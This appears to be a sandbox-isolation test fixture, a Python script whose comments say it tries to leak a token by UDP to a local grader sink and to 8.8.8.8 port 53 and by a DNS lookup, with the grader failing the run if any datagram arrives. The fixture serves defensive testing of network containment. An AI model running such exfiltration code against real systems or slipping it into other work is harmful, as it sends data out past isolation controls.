# harm: leak data through DNS lookups and UDP packets, to the outside and to a socket on this machine.
# check: no datagram reaches the grader's own UDP socket (127.0.0.1:{SINK_UDP}, recorded); verdict failure.
# layers: os
import socket

for target in (("127.0.0.1", {SINK_UDP}), ("8.8.8.8", 53)):
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"LEAK-{TOKEN}", target)
        print("sent", target[0])
    except Exception as e:  # noqa: BLE001 -- try every route
        print("blocked", target[0], type(e).__name__)
try:
    print(socket.gethostbyname("example.com"))
except Exception as e:  # noqa: BLE001
    print("no dns", type(e).__name__)
